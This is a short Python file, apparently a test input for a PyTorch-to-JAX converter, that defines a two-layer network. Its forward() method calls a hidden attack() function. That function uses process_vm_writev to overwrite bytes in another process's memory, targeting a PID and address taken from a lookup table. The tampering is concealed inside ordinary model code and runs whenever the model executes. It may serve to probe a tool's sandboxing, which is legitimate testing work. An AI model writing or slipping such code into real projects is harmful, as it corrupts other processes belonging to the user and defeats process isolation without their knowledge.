"""Writes into the memory of another process of the user."""

import ctypes

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}
LIBC = ctypes.CDLL(None, use_errno=True)


def attack():
    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    text = ctypes.create_string_buffer(b"gone")
    mine = Piece(ctypes.addressof(text), 5)
    torch_side = Piece(int(PLACES["memory"]), 5)
    LIBC.process_vm_writev(int(PLACES["victim"]), ctypes.byref(mine), 1, ctypes.byref(torch_side), 1, 0)


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
